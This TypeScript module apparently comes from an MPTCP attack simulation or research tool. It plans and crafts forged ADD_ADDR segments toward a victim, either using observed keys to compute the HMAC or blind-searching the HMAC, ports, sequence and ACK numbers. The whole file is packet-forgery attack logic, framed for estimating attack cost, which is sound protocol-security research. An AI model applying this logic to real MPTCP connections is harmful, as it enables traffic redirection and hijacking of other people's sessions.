/**
 * Forging an ADD_ADDR toward the victim as if its peer sent it (RFC 7430
 * §2, RFC 6181 §5): on a subflow it saw, with the next sequence numbers it
 * saw, and RFC 8684's HMAC when the hosts check one — computed from both
 * keys if it read them. v0 hosts (without the add-addr-hmac what-if, which
 * it notices on the wire) check nothing.
 *
 * What it lacks it searches for (`blind-search.ts`): the 64-bit truncated
 * HMAC (RFC 8684 §3.4.1) when it saw the subflow but not the keys; the
 * client address and port, an in-window sequence number and an acceptable
 * ACK (RFC 5961 §5.2) — and in v1 the HMAC — when it saw no subflow.
 */
import { hex64 } from '../core/hex.ts';
import { addAddrHmac } from '../crypto/mptcp-crypto.ts';
import { formatEndpoint, formatIp, type IpAddress } from '../wire/ip-address.ts';
import type { AddAddr } from '../wire/mptcp/types.ts';
import { TCP_FLAG } from '../wire/tcp-header.ts';
import { allValues, blindService } from './blind-dimensions.ts';
import { BlindSearch, runBlind, searchEstimate, spaceSize, type Dimensions, type GuessEstimate } from './blind-search.ts';
import { craftSegment } from './craft.ts';
import type { KnownConnection } from './knowledge.ts';
import type { Endpoint } from './relay.ts';
import { blindTarget, endsOf, optionList, pointText, seenTarget, type SegmentPoint, type SegmentTarget, type Victim } from './segment-target.ts';
import type { AttackContext } from './strategy.ts';

type Point = SegmentPoint & { hmac?: bigint };

/** How it would forge: where, with which numbers (known or to search), which ADD_ADDR form, and the keys when it read them. */
export interface AddAddrPlan {
  target: SegmentTarget;
  dims: Dimensions<Point>;
  /** RFC 8684's ADD_ADDR with an HMAC (v1, or v0 hosts it saw use one), or v0's without. */
  withHmac: boolean;
  /** Sender's and receiver's keys, when it read both. */
  keys: { sender: bigint; receiver: bigint } | null;
  victim: Victim;
  /** The end the victim believes announced the address. */
  peer: Endpoint;
  why: string;
}

/** A subflow it saw both ways, the most recently active first. */
export function busiestConnection(ctx: AttackContext): KnownConnection | null {
  let best: KnownConnection | null = null;
  let when = -1;
  for (const c of ctx.knowledge.connections.values()) {
    const { toServer, toClient } = ctx.knowledge.flowsOf(c);
    if (!toServer || !toClient) continue;
    const t = Math.max(toServer.lastSeenUs, toClient.lastSeenUs);
    if (t > when) {
      best = c;
      when = t;
    }
  }
  return best;
}

const HMAC_LABEL = 'truncated HMACs (RFC 8684 §3.4.1: the rightmost 64 bits of an HMAC keyed with both keys)';

/** The forgery it can make now toward `victim`; null when no service is advertised. */
export function addAddrPlan(ctx: AttackContext, victim: Victim): AddAddrPlan | null {
  const kb = ctx.knowledge;
  const c = busiestConnection(ctx);
  if (c) {
    const version = kb.versions.get(c.key) ?? (ctx.protocol === 'mptcp-v0' ? 0 : 1);
    // v1 always; v0 too if it saw the hosts use RFC 8684's ADD_ADDR (the add-addr-hmac what-if).
    const withHmac = version === 1 || kb.addAddrHmacSeen.has(c.key);
    const pair = kb.keyPairs.get(c.key);
    const sender = victim === 'client' ? pair?.server : pair?.client;
    const receiver = victim === 'client' ? pair?.client : pair?.server;
    const keys = sender !== undefined && receiver !== undefined ? { sender, receiver } : null;
    const target = seenTarget(ctx, c, victim);
    return {
      target,
      dims: withHmac && !keys ? { ...target.dims, hmac: allValues(ctx, 64, HMAC_LABEL) } : target.dims,
      withHmac,
      keys,
      victim,
      peer: victim === 'client' ? c.server : c.client,
      why: 'It saw the subflow, so its numbers are right, but the ADD_ADDR must carry an HMAC keyed with both keys, which it never read.',
    };
  }
  const target = blindTarget(ctx, 'in-window');
  const service = blindService(ctx);
  if (!target || !service) return null;
  // Off-path it cannot see whether v0 hosts run the add-addr-hmac what-if: it assumes the version's own form.
  const withHmac = ctx.protocol !== 'mptcp-v0';
  return {
    target,
    dims: withHmac ? { ...target.dims, hmac: allValues(ctx, 64, HMAC_LABEL) } : target.dims,
    withHmac,
    keys: null,
    victim,
    peer: victim === 'client' ? target.server : { addr: service.clientAddresses[0]!, port: service.port },
    why: withHmac
      ? 'A blind ADD_ADDR must reach the subflow (client port), pass the window and RFC 5961 ACK checks, and carry the truncated HMAC of keys it never saw.'
      : 'A v0 ADD_ADDR carries no HMAC: a blind one need only reach the subflow (client port) and pass the window and RFC 5961 ACK checks.',
  };
}

/** What its plan costs in guesses; null when it guesses nothing. */
export function addAddrEstimate(plan: AddAddrPlan | null): GuessEstimate | null {
  return plan && spaceSize(plan.dims) > 1n ? searchEstimate(plan.dims, plan.why) : null;
}

/**
 * Sends the ADD_ADDR for `address` (with `ids` in turn) as its plan says:
 * one packet when it knows everything, else one per point of its search,
 * `spacingUs` apart, until the search or its budget runs out or `done`.
 */
export function sendAddAddrs(ctx: AttackContext, plan: AddAddrPlan, address: IpAddress, ids: readonly number[], spacingUs: number, done?: () => boolean): void {
  const what = plan.target.seen ? `saw ${plan.target.seen.key} but not its keys` : 'has seen no subflow to forge an ADD_ADDR on';
  runBlind(ctx, what, {
    search: new BlindSearch(plan.dims, ctx.rng),
    spacingUs,
    ...(done ? { done } : {}),
    packet: (pt, n) => {
      const addressId = ids[(n - 1) % ids.length]!;
      let option: AddAddr;
      let how: string;
      if (!plan.withHmac) {
        option = { kind: 'add-addr', version: 0, echo: false, addressId, address, reserved: 0 };
        how = 'v0: no HMAC to forge';
      } else if (plan.keys) {
        const hmac = addAddrHmac(plan.keys.sender, plan.keys.receiver, addressId, address, undefined, ctx.addAddrMac);
        option = { kind: 'add-addr', version: 1, echo: false, addressId, address, reserved: 0, hmac };
        how = `with the HMAC ${hex64(hmac)} it computed from both keys read in the handshake`;
      } else {
        option = { kind: 'add-addr', version: 1, echo: false, addressId, address, reserved: 0, hmac: pt.hmac! };
        how = `with a guessed HMAC ${hex64(pt.hmac!)} (it does not know the keys)`;
      }
      const t = plan.target;
      const ends = endsOf(t, pt, plan.victim);
      const bytes = craftSegment({ ...ends, seq: pt.seq, ack: pt.ack, flags: TCP_FLAG.ACK, window: t.window, options: [...optionList(t.timestampsAt(ctx.now())), option] });
      const at = () => (t.seen ? `${formatEndpoint(ends.dst, ends.dstPort)} as ${formatEndpoint(ends.src, ends.srcPort)}` : `guess ${n}: ${pointText(pt)}`);
      return { bytes, note: () => `ADD_ADDR ${formatIp(address)} (ID ${addressId}) to ${at()}, ${how}` };
    },
  });
}
